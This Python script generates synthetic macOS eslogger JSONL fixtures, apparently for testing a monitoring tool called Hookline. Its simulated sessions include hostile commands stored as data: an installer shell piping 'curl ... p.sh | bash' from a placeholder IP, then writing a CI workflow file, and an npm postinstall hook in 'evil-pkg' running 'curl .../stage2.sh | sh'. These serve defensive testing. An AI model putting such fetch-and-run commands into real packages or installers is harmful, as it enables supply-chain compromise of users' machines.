# Generates the eslogger fixture lines (committed as .jsonl); shapes follow ESMessage.h as eslogger prints it.
import json, sys
out_dir = sys.argv[1]

def token(pid, pv, euid, form):
    if form == "object":
        return {"asid": 100003, "auid": 501, "egid": 20, "euid": euid, "pid": pid, "pidversion": pv, "rgid": 20, "ruid": euid}
    # audit_token_t.val[8]: auid, euid, egid, ruid, rgid, pid, asid, pidversion
    return [501, euid, 20, euid, 20, pid, 100003, pv]

def proc(pid, ppid, path, form, euid=501, signing=None, team=None, platform=True, extra=None, truncated=False):
    p = {"audit_token": token(pid, pid * 10, euid, form), "ppid": ppid, "original_ppid": ppid, "group_id": pid,
         "session_id": 100003, "codesigning_flags": 570522385, "is_platform_binary": platform, "is_es_client": False,
         "signing_id": signing, "team_id": team, "cdhash": "5f0c2bd3b0e1c7a8f9d2e4c6a1b3d5e7f9a1c3e5",
         "executable": {"path": path, "path_truncated": truncated},
         "tty": None, "start_time": "2024-05-01T10:00:00.000000Z"}
    if form == "object":
        p["responsible_audit_token"] = token(1, 1, 0, form)
        p["parent_audit_token"] = token(ppid, ppid * 10, euid, form)
    if extra:
        p.update(extra)
    return p

def msg(t, etype, key, body, process, version, gseq, form, reorder=False, unknown=False):
    m = {"schema_version": 1, "version": version, "time": t, "mach_time": 123456789000 + gseq, "seq_num": gseq,
         "global_seq_num": gseq, "event_type": etype, "action_type": 1,
         "action": {"result": {"result_type": 0, "result": {"auth": 0}}},
         "thread": {"thread_id": 9000 + gseq}, "process": process, "event": {key: body}}
    if unknown:
        m["future_top_level_key"] = {"nested": [1, 2, {"x": None}]}
        m["event"][key]["future_event_key"] = "ignored"
    if reorder:
        m = dict(reversed(list(m.items())))
    return m

def f(path, truncated=False):
    return {"path": path, "path_truncated": truncated,
            "stat": {"st_dev": 16777230, "st_ino": 1234567, "st_mode": 33188, "st_nlink": 1, "st_uid": 501, "st_gid": 20,
                     "st_size": 10, "st_blocks": 8, "st_blksize": 4096, "st_flags": 0, "st_gen": 0, "st_rdev": 0,
                     "st_atimespec": "2024-05-01T10:00:00.000000000Z", "st_mtimespec": "2024-05-01T10:00:00.000000000Z",
                     "st_ctimespec": "2024-05-01T10:00:00.000000000Z", "st_birthtimespec": "2024-05-01T10:00:00.000000000Z"}}

def T(s):
    return "2024-05-01T10:00:%06.3f" % s + "123456Z"

def session(version, form, reorder, unknown, escape):
    L = []
    g = [1000]
    def add(t, etype, key, body, process):
        g[0] += 1
        L.append(msg(T(t), etype, key, body, process, version, g[0], form, reorder, unknown))
    zsh = proc(500, 499, "/bin/zsh", form, signing="com.apple.zsh")
    # zsh forks 600, which execs installer
    add(1.0, 11, "fork", {"child": proc(600, 500, "/bin/zsh", form, signing="com.apple.zsh")}, zsh)
    inst = proc(600, 500, "/usr/sbin/installer", form, euid=0, signing="com.apple.installer")
    add(1.1, 9, "exec", {"target": inst, "args": ["installer", "-pkg", "/tmp/evil.pkg", "-target", "/"],
        "cwd": f("/Users/dev"), "script": None, "last_fd": 2, "image_cputype": 16777228, "image_cpusubtype": 2,
        "dyld_exec_path": "/usr/sbin/installer", "env": ["SECRET=do-not-keep"], "fds": []}, proc(600, 500, "/bin/zsh", form))
    add(1.2, 11, "fork", {"child": proc(601, 600, "/usr/sbin/installer", form, euid=0)}, inst)
    sh = proc(601, 600, "/bin/sh", form, euid=0, signing="com.apple.sh")
    add(1.3, 9, "exec", {"target": sh, "args": ["/bin/sh", "-c", "curl -fsSL http://203.0.113.7/p.sh | bash"],
        "cwd": f("/private/tmp/PKInstallSandbox.abc/Scripts"), "script": None}, proc(601, 600, "/usr/sbin/installer", form, euid=0))
    # file events by the shell
    add(1.4, 13, "create", {"destination_type": 1, "destination": {"new_path": {"dir": f("/Users/dev/repo/.github/workflows"),
        "filename": "ci.yml", "mode": 420}}}, sh)
    add(1.5, 33, "write", {"target": f("/Users/dev/repo/.github/workflows/ci.yml")}, sh)
    add(1.6, 12, "close", {"modified": True, "target": f("/Users/dev/repo/.github/workflows/ci.yml"), "was_mapped_writable": False}, sh)
    add(1.7, 13, "create", {"destination_type": 0, "destination": {"existing_file": f("/Users/dev/notes.txt")}}, sh)
    add(5.0, 33, "write", {"target": f("/Users/dev/notes.txt")}, sh)
    add(5.1, 33, "write", {"target": f("/Users/dev/notes.txt")}, sh)
    add(5.2, 12, "close", {"modified": True, "target": f("/Users/dev/notes.txt")}, sh)
    add(5.3, 25, "rename", {"source": f("/Users/dev/notes.txt"), "destination_type": 1,
        "destination": {"new_path": {"dir": f("/Users/dev/archive"), "filename": "notes-old.txt"}}}, sh)
    add(5.4, 32, "unlink", {"target": f("/Users/dev/archive/notes-old.txt"), "parent_dir": f("/Users/dev/archive")}, sh)
    long_dir = "/Users/dev/" + "deep/" * 200
    add(5.5, 13, "create", {"destination_type": 0, "destination": {"existing_file": f(long_dir[:1023], truncated=True)}}, sh)
    # an event type Hookline does not map
    add(5.6, 123, "btm_launch_item_add", {"instigator": sh, "item": {"item_type": 3}}, sh)
    add(5.7, 15, "exit", {"stat": 0}, sh)
    lines = [json.dumps(m, separators=(",", ":")) for m in L]
    if escape:
        lines = [l.replace("/", "\\/") for l in lines]
    return lines

for name, version, form, reorder, unknown, escape in [
        ("macos13-v6-object-token.jsonl", 6, "object", False, False, False),
        ("macos14-v7-array-token-escaped.jsonl", 7, "array", False, True, True),
        ("macos15-v8-reordered-unknown-keys.jsonl", 8, "array", True, True, False)]:
    with open(out_dir + "/" + name, "w") as fh:
        fh.write("\n".join(session(version, form, reorder, unknown, escape)) + "\n")

# npm install: node (npm) forks, the child execs sh -c "curl http://..." (a postinstall hook)
def npm_session():
    L = []
    g = [5000]
    def add(t, etype, key, body, process):
        g[0] += 1
        L.append(msg(T(t), etype, key, body, process, 8, g[0], "array"))
    zsh = proc(700, 699, "/bin/zsh", "array", signing="com.apple.zsh")
    add(2.0, 11, "fork", {"child": proc(701, 700, "/bin/zsh", "array")}, zsh)
    node = proc(701, 700, "/opt/homebrew/Cellar/node/22.1.0/bin/node", "array", signing="node", team=None, platform=False)
    add(2.1, 9, "exec", {"target": node, "args": ["node", "/opt/homebrew/bin/npm", "install", "evil-pkg"],
        "cwd": f("/Users/dev/app"), "script": f("/opt/homebrew/bin/npm")}, proc(701, 700, "/bin/zsh", "array"))
    add(2.2, 11, "fork", {"child": proc(702, 701, "/opt/homebrew/Cellar/node/22.1.0/bin/node", "array", platform=False)}, node)
    sh = proc(702, 701, "/bin/sh", "array", signing="com.apple.sh")
    add(2.3, 9, "exec", {"target": sh, "args": ["sh", "-c", "curl http://198.51.100.23/stage2.sh | sh"],
        "cwd": f("/Users/dev/app/node_modules/evil-pkg")}, proc(702, 701, "/opt/homebrew/Cellar/node/22.1.0/bin/node", "array"))
    add(2.4, 11, "fork", {"child": proc(703, 702, "/bin/sh", "array")}, sh)
    curl = proc(703, 702, "/usr/bin/curl", "array", signing="com.apple.curl")
    add(2.5, 9, "exec", {"target": curl, "args": ["curl", "http://198.51.100.23/stage2.sh"], "cwd": f("/Users/dev/app/node_modules/evil-pkg")},
        proc(703, 702, "/bin/sh", "array"))
    return [json.dumps(m, separators=(",", ":")) for m in L]

with open(out_dir + "/npm-postinstall-v8.jsonl", "w") as fh:
    fh.write("\n".join(npm_session()) + "\n")
